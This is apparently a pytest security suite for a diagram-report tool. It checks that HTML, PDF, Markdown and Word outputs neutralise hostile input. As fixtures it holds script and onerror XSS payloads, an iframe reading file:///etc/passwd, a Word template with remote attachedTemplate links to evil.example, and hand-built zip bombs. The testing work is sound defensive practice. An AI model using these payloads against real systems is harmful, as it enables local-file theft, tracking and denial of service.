"""A paper from someone else's diagram: nothing in it runs, fetches or comes along.

Each test is a hole found by trying the tool as an attacker would (issue 11): an HTML
paper with no policy against scripts, a PDF printer (Chromium on a file:// page) that
ran them, read local files and reached the network, a Markdown outline a title could
break out of, and a Word template copied whole (its text, a remote attachedTemplate,
a 2.5 GB styles.xml). HTML and PDF go through the real headless Chromium, Word
documents through python-docx and the zip files themselves.
"""

from __future__ import annotations

import html.parser
import http.server
import io
import os
import re
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

import driverdiagram as dd
from driverdiagram.cli import main
from driverdiagram.papers.docx import to_docx
from driverdiagram.papers.html import CSP, to_html
from driverdiagram.papers.pdf import CHROMIUM_SWITCHES, print_html
from driverdiagram.summary import title as report_title

ROOT = Path(__file__).resolve().parent.parent.parent
EARLY = ROOT / "diagrams" / "early-years-participation.yaml"
MINIMAL = ROOT / "tests" / "cases" / "valid" / "minimal.yaml"
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
needs_chromium = pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium")
pytestmark = pytest.mark.graphviz

SCRIPT = "<script>document.title='SCRIPT-RAN';document.write('SCRIPT-RAN')</script>"
IFRAME = '<iframe src="file:///etc/passwd"></iframe>'


def hostile_yaml() -> str:
    """A diagram with markup in every text a paper shows."""
    text = f"{SCRIPT} {IFRAME} <img src=x onerror=alert(1)> ``` [link](javascript:x)"
    quoted = "'" + text.replace("'", "''") + "'"
    return (
        f"title: {quoted}\nteam: {quoted}\naim:\n  text: {quoted}\n  notes: {quoted}\n"
        f"notes: {quoted}\nprimary:\n  - text: {quoted}\n    notes: {quoted}\n"
        f"    changes:\n      - text: {quoted}\n        status: testing\n"
    )


@pytest.fixture
def server() -> Iterator[tuple[str, list[str]]]:
    """A web server on the loopback: its address, and the paths asked of it."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}", asked
    finally:
        httpd.shutdown()
        httpd.server_close()


def fetching(address: str) -> str:
    """Markup that fetches from ``address`` in every way a page can."""
    return (
        f'<img src="{address}/img"><link rel="stylesheet" href="{address}/css">'
        f'<iframe src="{address}/frame"></iframe><script src="{address}/script"></script>'
        f'<img src="http://example.com/outside.png">'
    )


def chromium(*switches: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    """Chromium as anyone might run it: none of the paper printer's switches."""
    assert CHROMIUM is not None
    root = os.geteuid() == 0
    with tempfile.TemporaryDirectory() as profile:
        return subprocess.run(
            [
                CHROMIUM,
                "--headless",
                *(["--no-sandbox"] if root else []),
                "--disable-gpu",
                f"--user-data-dir={profile}",
                *switches,
            ],
            capture_output=True,
            text=True,
            timeout=timeout,
            check=False,
        )


def pdf_text(data: bytes) -> str:
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(data))
    return " ".join(" ".join(page.extract_text().split()) for page in reader.pages)


# -- HTML: a Content-Security-Policy -----------------------------------------------------


def test_the_html_paper_forbids_scripts_and_every_fetch() -> None:
    page = to_html(dd.load(MINIMAL))
    head = page[: page.index("</head>")]
    assert head.startswith("<!DOCTYPE html>\n<html")
    metas = re.findall(r"<meta [^>]*>", head)
    assert metas[:2] == [
        '<meta charset="utf-8">',
        '<meta http-equiv="Content-Security-Policy" content="default-src \'none\';'
        " style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'\">",
    ]
    assert CSP.startswith("default-src 'none';") and "script" not in CSP


@needs_chromium
def test_chromium_obeys_the_papers_policy(tmp_path: Path, server: tuple[str, list[str]]) -> None:
    """Markup slipped into a paper (as if every other check had failed) neither runs
    nor fetches: the policy alone stops it. Without the policy it does both."""
    address, asked = server
    page = to_html(dd.load(MINIMAL)).replace(
        "</body>", f"{SCRIPT}{IFRAME}{fetching(address)}</body>"
    )
    paper = tmp_path / "paper.html"
    paper.write_text(page)
    shown = chromium("--dump-dom", paper.as_uri()).stdout
    assert "<title>SCRIPT-RAN</title>" not in shown and "<title>" in shown
    assert asked == []
    bare = tmp_path / "bare.html"
    bare.write_text(re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page))
    shown = chromium("--dump-dom", bare.as_uri()).stdout
    assert "<title>SCRIPT-RAN</title>" in shown, "the control: without the policy it runs"
    assert asked, "the control: without the policy the page fetches"


def test_a_hostile_diagrams_html_paper_holds_only_our_markup() -> None:
    """Every tag and attribute of the paper is one the paper's own template or its
    checked SVG writes: the diagram's text is all text."""
    page = to_html(dd.loads(hostile_yaml()))

    class Tags(html.parser.HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.tags: set[str] = set()
            self.attributes: list[tuple[str, str]] = []

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            self.tags.add(tag)
            self.attributes += [(name, value or "") for name, value in attrs]

    parsed = Tags()
    parsed.feed(page)
    html_tags = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "ul"}
    html_tags |= {"li", "strong", "figure", "figcaption", "table", "thead", "tbody", "tr"}
    html_tags |= {"th", "td", "pre", "section", "br"}
    svg_tags = {"svg", "g", "title", "desc", "text", "path", "polygon", "a", "ellipse"}
    assert parsed.tags <= html_tags | svg_tags, parsed.tags - html_tags - svg_tags
    names = {name for name, _ in parsed.attributes}
    assert not [name for name in names if name.startswith("on")]
    assert not [value for name, value in parsed.attributes if name in ("src", "href")]
    assert "<script" not in page and "<iframe" not in page and "<img" not in page
    assert html.unescape(SCRIPT) in html.unescape(page)


# -- PDF: a printer with no network and a time limit ---------------------------------------


@needs_chromium
def test_the_pdf_printer_has_no_network(server: tuple[str, list[str]], tmp_path: Path) -> None:
    """A page with no policy at all, printed as a paper is: nothing reaches the loopback
    server (or anywhere else). Printed by Chromium without those switches, it does."""
    address, asked = server
    page = f"<!DOCTYPE html><html><body><p>Printed offline</p>{fetching(address)}</body></html>"
    assert "Printed offline" in pdf_text(print_html(page, "plan.yaml"))
    assert asked == []
    control = tmp_path / "page.html"
    control.write_text(page)
    chromium(f"--print-to-pdf={tmp_path / 'page.pdf'}", control.as_uri())
    assert asked, "the control: Chromium without the switches fetches from the server"
    assert "--proxy-bypass-list=<-loopback>" in CHROMIUM_SWITCHES


@needs_chromium
def test_a_hostile_diagram_prints_as_text(tmp_path: Path) -> None:
    """The issue's attack: a script and an iframe of /etc/passwd in a printed paper."""
    paper, plan = tmp_path / "paper.pdf", tmp_path / "plan.yaml"
    plan.write_text(hostile_yaml())
    result = CliRunner().invoke(main, ["report", str(plan), "-o", str(paper)])
    assert result.exit_code == 0, result.output
    text = pdf_text(paper.read_bytes())
    assert "root:x:0:0" not in text and "/bin/bash" not in text
    assert "document.write('SCRIPT-RAN')" in text, "the script is shown, as text"
    assert re.findall(r"(?<!')SCRIPT-RAN", text) == [], "what the script would have written"


@needs_chromium
def test_the_printer_follows_the_dot_timeout_and_leaves_nothing_running(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    page = to_html(dd.load(MINIMAL))
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))  # where its profile goes
    started = time.perf_counter()
    with dd.limits(dot_timeout=0.3), pytest.raises(dd.RenderError) as caught:
        print_html(page, "plan.yaml")
    assert time.perf_counter() - started < 20
    assert str(caught.value) == (
        "plan.yaml: error: Chromium took longer than 0.3 seconds to print the report and"
        " was stopped (raise the limit with --dot-timeout)"
    )
    for _ in range(50):  # SIGKILL is not instant; give the kernel a moment
        left = [pid for pid in os.listdir("/proc") if pid.isdigit() and _mentions(pid, tmp_path)]
        if not left:
            break
        time.sleep(0.1)
    assert left == [], "no Chromium process is left behind"


def _mentions(pid: str, folder: Path) -> bool:
    try:
        command = Path("/proc", pid, "cmdline").read_bytes()
    except OSError:
        return False
    return str(folder).encode() in command and b"--print-to-pdf" in command


def test_the_printers_network_namespace_has_no_network() -> None:
    """Where this system allows one (here, as root: 'unshare --net'), the printer runs
    in a network namespace of its own: only a loopback, and that one down."""
    from driverdiagram.papers.pdf import _offline_prefix

    prefix = _offline_prefix()
    if not prefix:
        pytest.skip("no network namespace here (no unshare, or user namespaces refused)")
    result = subprocess.run([*prefix, "cat", "/proc/net/dev"], capture_output=True, text=True)
    interfaces = [line.split(":")[0].strip() for line in result.stdout.splitlines()[2:]]
    assert interfaces == ["lo"]
    route = subprocess.run([*prefix, "cat", "/proc/net/route"], capture_output=True, text=True)
    assert route.stdout.splitlines()[1:] == [], "no route anywhere"


# -- Markdown: a fence nothing can close ---------------------------------------------------


def fences(text: str) -> list[list[str]]:
    """The fenced code blocks of a Markdown text, as CommonMark reads them."""
    blocks: list[list[str]] = []
    lines = iter(text.split("\n"))
    for line in lines:
        opening = re.match(r" {0,3}(`{3,})[^`]*$", line)
        if opening is None:
            continue
        block: list[str] = []
        for inner in lines:
            if re.fullmatch(rf" {{0,3}}`{{{len(opening.group(1))},}} *", inner):
                break
            block.append(inner)
        blocks.append(block)
    return blocks


@pytest.mark.parametrize(
    "title",
    ["```", "`````", "```\n# Owned\n```", "````` <script>x</script>", "a `b` ``c`` ```d```"],
)
def test_a_title_cannot_break_out_of_the_outline(title: str) -> None:
    """The outline is a nested list in the body's font: backticks in any text are
    escaped, so no text opens a code block, a heading or HTML."""
    quoted = "'" + title.replace("'", "''") + "'"
    diagram = dd.loads(
        f"title: {quoted}\naim: '```'\nprimary:\n  - text: '````'\n    changes: ['`````']\n"
    )
    from driverdiagram.papers.figures import plan
    from driverdiagram.papers.markdown import to_markdown

    pictures = [(figure, "paper.svg") for figure in plan(diagram, "md").figures]
    text = to_markdown(diagram, pictures)
    assert fences(text) == [], "no text opens a code block"
    assert not re.search(r"^# Owned", text, re.MULTILINE)
    assert "<script>" not in text
    listed = [line for line in text.split("\n") if line.lstrip().startswith("- ")]
    assert any(line.strip().startswith("- Aim") for line in listed)
    assert all("```" not in line for line in listed), "every backtick escaped"


def test_the_pictures_name_stays_one_link(tmp_path: Path) -> None:
    """A paper named 'plan (v2).md': the space and ')' would end the image's link."""
    paper = tmp_path / "plan (v2).md"
    result = CliRunner().invoke(main, ["report", str(EARLY), "-o", str(paper)])
    assert result.exit_code == 0, result.output
    text = paper.read_text()
    assert "](plan%20%28v2%29.svg)" in text and (tmp_path / "plan (v2).svg").is_file()
    for measure in dd.load(EARLY).measures:
        if measure.points:
            assert f"](plan%20%28v2%29.{measure.id}.svg)" in text


def test_a_markdown_papers_picture_is_never_written_onto_a_pipe(tmp_path: Path) -> None:
    """The side file is named by the tool, not the user: a regular file only."""
    os.mkfifo(tmp_path / "paper.svg")
    result = CliRunner().invoke(main, ["report", str(MINIMAL), "-o", str(tmp_path / "paper.md")])
    assert result.exit_code == 1
    assert "is a pipe (FIFO), not a regular file" in result.stderr
    assert not (tmp_path / "paper.md").exists()


# -- Word: a template lends its styles and nothing else ---------------------------------------

RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def hostile_template(path: Path) -> None:
    """A Word template with its own styles and much else: body text, a header, a
    remote attachedTemplate (Word fetches it on opening) and an external link."""
    import docx
    from docx.oxml import parse_xml

    document = docx.Document()
    document.styles["Normal"].font.name = "Georgia"
    document.add_paragraph("SECRET BODY TEXT")
    document.sections[0].header.paragraphs[0].text = "SECRET HEADER"
    document.part.relate_to("https://evil.example/track", f"{RT}/hyperlink", is_external=True)
    settings = document.part._settings_part  # python-docx has no public way to this
    rid = settings.relate_to(
        "https://evil.example/template.dotm", f"{RT}/attachedTemplate", is_external=True
    )
    settings.element.append(
        parse_xml(f'<w:attachedTemplate xmlns:w="{W[1:-1]}" xmlns:r="{RT}" r:id="{rid}"/>')
    )
    document.save(str(path))


def parts(docx_bytes: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(docx_bytes)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_a_template_lends_only_its_styles(tmp_path: Path) -> None:
    import docx

    template = tmp_path / "theirs.docx"
    hostile_template(template)
    assert b"evil.example" in b"".join(parts(template.read_bytes()).values())
    paper = tmp_path / "paper.docx"
    result = CliRunner().invoke(
        main, ["report", str(MINIMAL), "-o", str(paper), "--template", str(template)]
    )
    assert result.exit_code == 0, result.output
    made = parts(paper.read_bytes())
    everything = b"".join(made.values())
    assert b"evil.example" not in everything and b"SECRET" not in everything
    assert b'TargetMode="External"' not in everything
    assert b"attachedTemplate" not in everything
    document = docx.Document(str(paper))
    assert document.styles["Normal"].font.name == "Georgia", "the styles did come along"
    assert document.paragraphs[0].text == report_title(dd.load(MINIMAL))


def test_a_template_without_the_papers_styles_still_makes_a_paper(tmp_path: Path) -> None:
    """Word writes a style into a file once it is used: a template may have no
    Title or Heading 1 (once a KeyError traceback). Ours fill the gaps."""
    import docx

    base = docx.Document()
    for style in list(base.styles.element.iterchildren(f"{W}style")):
        if style.find(f"{W}name").get(f"{W}val") != "Normal":
            base.styles.element.remove(style)
    base.styles["Normal"].font.name = "Georgia"
    template = tmp_path / "bare.docx"
    base.save(str(template))
    paper = docx.Document(io.BytesIO(to_docx(dd.load(MINIMAL), template=template)))
    used = [paragraph.style.name for paragraph in paper.paragraphs]
    assert used[:2] == ["Title", "Heading 1"]
    assert paper.styles["Normal"].font.name == "Georgia"


def zip_of(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip file written by hand, so its headers can say what an attacker wants:
    (name, stored bytes, method, CRC, uncompressed size) for each member."""
    out, central = io.BytesIO(), io.BytesIO()
    for name, data, method, crc, size in members:
        offset = out.tell()
        encoded = name.encode()
        fields = (20, 0, method, 0, 0x21, crc, len(data), size, len(encoded), 0)
        out.write(b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", *fields) + encoded + data)
        central.write(
            b"PK\x01\x02"
            + struct.pack("<HHHHHHIIIHHHHHII", 20, *fields, 0, 0, 0, 0, offset)
            + encoded
        )
    start, directory = out.tell(), central.getvalue()
    out.write(directory)
    count = len(members)
    out.write(b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), start, 0))
    return out.getvalue()


def zeros_deflated(megabytes: int) -> bytes:
    """``megabytes`` MB of zero bytes as a raw deflate stream, made without making
    them: after a full flush, each megabyte compresses to the same 1 kB."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)
    return block * megabytes + compressor.flush()


CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"/>'
)


def test_a_zip_bomb_template_is_refused_without_inflating_it(tmp_path: Path) -> None:
    """A 2.5 MB file whose styles.xml says, truthfully, that it is 2,500 MB."""
    bomb = zeros_deflated(2500)
    template = tmp_path / "bomb.docx"
    template.write_bytes(
        zip_of(
            [
                (
                    "[Content_Types].xml",
                    CONTENT_TYPES,
                    0,
                    zlib.crc32(CONTENT_TYPES),
                    len(CONTENT_TYPES),
                ),
                ("word/styles.xml", bomb, 8, 0, 2500 << 20),
            ]
        )
    )
    assert template.stat().st_size < 3 << 20
    started = time.perf_counter()
    result = CliRunner().invoke(
        main, ["report", str(MINIMAL), "-o", str(tmp_path / "p.docx"), "--template", str(template)]
    )
    assert time.perf_counter() - started < 10
    assert result.exit_code == 1
    assert result.stderr == (
        f"{template}: error: its part 'word/styles.xml' would be 2500 MB uncompressed;"
        " a template's parts are at most 20 MB\n"
    )
    assert not (tmp_path / "p.docx").exists()


def test_a_template_that_lies_about_its_size_is_read_no_further(tmp_path: Path) -> None:
    """styles.xml says 10 kB and inflates to 200 MB: only 10 kB are ever inflated."""
    template = tmp_path / "liar.docx"
    template.write_bytes(
        zip_of([("word/styles.xml", zeros_deflated(200), 8, zlib.crc32(bytes(10_000)), 10_000)])
    )
    started = time.perf_counter()
    with pytest.raises(dd.RenderError) as caught:
        to_docx(dd.load(MINIMAL), template=template)
    assert time.perf_counter() - started < 5
    [problem] = caught.value.problems
    assert problem.path == str(template)
    assert problem.message.startswith("the template's styles (word/styles.xml) cannot be read")


def test_a_template_with_a_squeezed_part_is_refused(tmp_path: Path) -> None:
    """Within the size limits but compressed like a bomb (500 times over)."""
    template = tmp_path / "squeezed.docx"
    template.write_bytes(zip_of([("word/media/x.bin", zeros_deflated(8), 8, 0, 8 << 20)]))
    with pytest.raises(dd.RenderError, match="compressed 1,010 times over, as zip bombs are"):
        to_docx(dd.load(MINIMAL), template=template)


@pytest.mark.parametrize(
    ("styles", "said"),
    [
        (
            b'<?xml version="1.0"?><!DOCTYPE w:styles [<!ENTITY a "aaaa">]><w:styles/>',
            "declare a DOCTYPE",
        ),
        (b"<w:styles", "cannot be read"),
        (b'<styles xmlns="urn:x"/>', "holds no styles"),
    ],
)
def test_a_templates_styles_must_be_plain_styles(tmp_path: Path, styles: bytes, said: str) -> None:
    template = tmp_path / "odd.docx"
    template.write_bytes(zip_of([("word/styles.xml", styles, 0, zlib.crc32(styles), len(styles))]))
    with pytest.raises(dd.RenderError, match=said) as caught:
        to_docx(dd.load(MINIMAL), template=template)
    assert caught.value.problems[0].path == str(template)


@pytest.mark.parametrize(
    ("content", "said"),
    [(b"not a zip at all", "is not a Word document"), (zip_of([]), "has no styles")],
)
def test_a_template_that_is_not_a_word_document(tmp_path: Path, content: bytes, said: str) -> None:
    template = tmp_path / "odd.docx"
    template.write_bytes(content)
    result = CliRunner().invoke(
        main, ["report", str(MINIMAL), "-o", str(tmp_path / "p.docx"), "--template", str(template)]
    )
    assert result.exit_code == 1 and result.stderr.startswith(f"{template}: error: {said}")


def test_a_template_that_is_a_pipe_is_refused_at_once(tmp_path: Path) -> None:
    """python-docx opened a pipe and waited for ever."""
    template = tmp_path / "pipe.docx"
    os.mkfifo(template)
    outcome: list[BaseException] = []

    def make() -> None:
        try:
            to_docx(dd.load(MINIMAL), template=template)
        except BaseException as error:  # handed to the test's thread
            outcome.append(error)

    worker = threading.Thread(target=make, daemon=True)
    worker.start()
    worker.join(30)
    assert not worker.is_alive(), "reading the template blocked"
    [error] = outcome
    assert isinstance(error, dd.DiagramError)
    assert str(error) == (
        f"{template}: error: is a pipe (FIFO), not a regular file; driverdiagram reads only files"
    )


def test_the_html_paper_is_the_same_bytes_every_time() -> None:
    """The checks and the policy add nothing that varies (hash seeds included)."""
    import sys

    script = (
        "import sys, hashlib, driverdiagram as dd\n"
        "from driverdiagram.papers.html import to_html\n"
        f"page = to_html(dd.load({str(ROOT / 'diagrams' / 'falls-prevention.yaml')!r}))\n"
        "print(hashlib.sha256(page.encode()).hexdigest())\n"
    )
    digests = {
        subprocess.run(
            [sys.executable, "-c", script],
            capture_output=True,
            text=True,
            check=True,
            env={**os.environ, "PYTHONHASHSEED": seed},
        ).stdout
        for seed in ("1", "2")
    }
    assert len(digests) == 1


@needs_chromium
@pytest.mark.graphviz
@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT])
def test_stopping_a_pdf_paper_stops_chromium_and_leaves_nothing(
    tmp_path: Path, number: int
) -> None:
    # a short TMPDIR, as most systems have: Chromium's sockets must fit a socket path
    scratch = Path(tempfile.mkdtemp(prefix="dd-stop-", dir="/tmp"))
    (tmp_path / "plan.yaml").write_text("aim: Fewer falls\nprimary: [Risks known early]\n")
    paper = subprocess.Popen(
        [sys.executable, "-m", "driverdiagram", "report", "plan.yaml", "-o", "paper.pdf"],
        cwd=tmp_path,
        env={**os.environ, "TMPDIR": str(scratch)},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )

    def printers() -> list[str]:
        found = []
        for entry in Path("/proc").iterdir():
            try:
                line = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
            except OSError:
                continue
            if str(scratch) in line and "driverdiagram" not in line.split(" ")[0]:
                found.append(line)
        return found

    deadline = time.monotonic() + 60
    while not printers() and paper.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    assert printers(), "Chromium never started"
    paper.send_signal(number)
    paper.wait(timeout=30)
    deadline = time.monotonic() + 10
    while printers() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert printers() == []
    left = list(scratch.iterdir())
    shutil.rmtree(scratch)
    assert left == []
    assert b"Traceback" not in paper.stderr.read()  # type: ignore[union-attr]
    assert not (tmp_path / "paper.pdf").exists()


def test_a_title_longer_than_word_allows_in_its_properties() -> None:
    diagram = dd.loads(f"title: {'A long title ' * 30}\naim: Fewer falls\nprimary: [Risks]\n")
    import docx

    document = docx.Document(io.BytesIO(to_docx(diagram)))
    assert document.core_properties.title == diagram.title[:255]


def test_the_printers_scratch_folder_is_short_enough_for_chromiums_sockets(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from driverdiagram.papers.pdf import _printer_environment, _scratch_parent

    monkeypatch.setattr(tempfile, "tempdir", "/tmp")
    assert _scratch_parent() is None
    assert _printer_environment("/tmp/driverdiagram-abc")["TMPDIR"] == "/tmp/driverdiagram-abc"
    monkeypatch.setattr(tempfile, "tempdir", "/tmp/" + "x" * 70)
    assert _scratch_parent() == "/tmp"
    assert "TMPDIR" not in _printer_environment("/tmp/" + "x" * 70 + "/driverdiagram-abc")
